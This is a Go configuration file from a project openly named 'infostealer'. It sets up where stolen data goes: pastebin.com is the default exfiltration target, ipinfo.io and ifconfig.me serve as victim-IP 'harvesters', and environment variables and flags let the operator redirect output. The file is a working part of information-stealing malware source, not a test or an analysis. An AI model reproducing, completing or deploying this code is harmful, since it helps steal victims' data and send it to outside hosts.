package config

import (
	"errors"
	"fmt"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"time"

	"github.com/spf13/viper"
	"gopkg.in/yaml.v3"

	"github.com/gzhole/infostealer/internal/exfil"
	"github.com/gzhole/infostealer/internal/netclient"
)

const (
	DefaultExfilURL       = "https://pastebin.com"
	DefaultIPHarvesterURL = "https://ipinfo.io/ip"
	DefaultOutputFile     = "collected_info.json"
	DefaultPayloadSize    = exfil.PayloadSize

	EnvExfilURL       = "EXFIL_URL"
	EnvIPHarvesterURL = "IP_HARVESTER_URL"
	EnvConfigPath     = "INFOSTEALER_CONFIG"
)

// Named destinations selectable with --exfil-site and --ip-harvester.
var (
	ExfilSites = map[string]string{
		"pastebin": "https://pastebin.com",
	}
	IPHarvesters = map[string]string{
		"ipinfo":      "https://ipinfo.io/ip",
		"ifconfig.me": "https://ifconfig.me/ip",
	}
)

// Viper keys. Flags are bound to the same names.
const (
	KeyExfilURL       = "exfil_url"
	KeyIPHarvesterURL = "ip_harvester_url"
	KeyExfilSite      = "exfil_site"
	KeyIPHarvester    = "ip_harvester"
	KeyOutput         = "output"
	KeyTimeout        = "timeout"
	KeyUserAgent      = "user_agent"
	KeyJournal        = "journal"
	KeyNoColor        = "no_color"
)

type Config struct {
	ExfilURL       string        `yaml:"exfil_url"`
	IPHarvesterURL string        `yaml:"ip_harvester_url"`
	OutputPath     string        `yaml:"output"`
	Timeout        time.Duration `yaml:"timeout"`
	UserAgent      string        `yaml:"user_agent"`
	JournalPath    string        `yaml:"journal"`
	NoColor        bool          `yaml:"no_color"`
	// PayloadSize is passed to the exfiltration step. Validate only
	// accepts DefaultPayloadSize.
	PayloadSize int `yaml:"payload_size"`
}

// Default returns the built-in configuration. The output file sits next to
// the running executable.
func Default() *Config {
	return &Config{
		ExfilURL:       DefaultExfilURL,
		IPHarvesterURL: DefaultIPHarvesterURL,
		OutputPath:     defaultOutputPath(),
		Timeout:        netclient.DefaultTimeout,
		UserAgent:      netclient.DefaultUserAgent,
		PayloadSize:    DefaultPayloadSize,
	}
}

// Load builds the configuration in increasing precedence: defaults, the
// optional YAML file at path, presets, then explicit values from v
// (flags and environment). A missing file is not an error.
func Load(path string, v *viper.Viper) (*Config, error) {
	cfg := Default()

	if path == "" {
		path = os.Getenv(EnvConfigPath)
	}
	if path != "" {
		if err := cfg.mergeFile(path); err != nil {
			return nil, err
		}
	}

	if v != nil {
		if err := cfg.applyViper(v); err != nil {
			return nil, err
		}
	}

	if err := cfg.Validate(); err != nil {
		return nil, err
	}
	return cfg, nil
}

// BindEnv wires the environment variables understood by the payload into v.
func BindEnv(v *viper.Viper) {
	_ = v.BindEnv(KeyExfilURL, EnvExfilURL)
	_ = v.BindEnv(KeyIPHarvesterURL, EnvIPHarvesterURL)
	v.SetEnvPrefix("INFOSTEALER")
	v.SetEnvKeyReplacer(strings.NewReplacer("-", "_"))
	v.AutomaticEnv()
}

func (c *Config) mergeFile(path string) error {
	data, err := os.ReadFile(path)
	if err != nil {
		if os.IsNotExist(err) {
			return nil
		}
		return fmt.Errorf("read config %s: %w", path, err)
	}
	if err := yaml.Unmarshal(data, c); err != nil {
		return fmt.Errorf("parse config %s: %w", path, err)
	}
	return nil
}

func (c *Config) applyViper(v *viper.Viper) error {
	if name := v.GetString(KeyExfilSite); name != "" {
		u, ok := ExfilSites[name]
		if !ok {
			return fmt.Errorf("unknown exfil site: %s", name)
		}
		c.ExfilURL = u
	}
	if name := v.GetString(KeyIPHarvester); name != "" {
		u, ok := IPHarvesters[name]
		if !ok {
			return fmt.Errorf("unknown IP harvester: %s", name)
		}
		c.IPHarvesterURL = u
	}

	if s := v.GetString(KeyExfilURL); s != "" {
		c.ExfilURL = s
	}
	if s := v.GetString(KeyIPHarvesterURL); s != "" {
		c.IPHarvesterURL = s
	}
	if s := v.GetString(KeyOutput); s != "" {
		c.OutputPath = s
	}
	if s := v.GetString(KeyUserAgent); s != "" {
		c.UserAgent = s
	}
	if s := v.GetString(KeyJournal); s != "" {
		c.JournalPath = s
	}
	if s := v.GetString(KeyTimeout); s != "" {
		d, err := time.ParseDuration(s)
		if err != nil {
			return fmt.Errorf("invalid timeout %q: %w", s, err)
		}
		if d != 0 {
			c.Timeout = d
		}
	}
	if v.GetBool(KeyNoColor) {
		c.NoColor = true
	}
	return nil
}

// Validate rejects configurations the payload cannot run with.
func (c *Config) Validate() error {
	if err := validateURL("exfil_url", c.ExfilURL); err != nil {
		return err
	}
	if err := validateURL("ip_harvester_url", c.IPHarvesterURL); err != nil {
		return err
	}
	if c.Timeout <= 0 {
		return fmt.Errorf("timeout must be positive, got %s", c.Timeout)
	}
	if c.PayloadSize != DefaultPayloadSize {
		return fmt.Errorf("payload_size is fixed at %d bytes, got %d", DefaultPayloadSize, c.PayloadSize)
	}
	if c.OutputPath == "" {
		return errors.New("output path must not be empty")
	}
	return nil
}

func validateURL(name, raw string) error {
	u, err := url.Parse(raw)
	if err != nil {
		return fmt.Errorf("invalid %s: %w", name, err)
	}
	if u.Scheme != "http" && u.Scheme != "https" {
		return fmt.Errorf("invalid %s %q: scheme must be http or https", name, raw)
	}
	if u.Host == "" {
		return fmt.Errorf("invalid %s %q: missing host", name, raw)
	}
	return nil
}

func defaultOutputPath() string {
	exe, err := os.Executable()
	if err != nil {
		return DefaultOutputFile
	}
	return filepath.Join(filepath.Dir(exe), DefaultOutputFile)
}
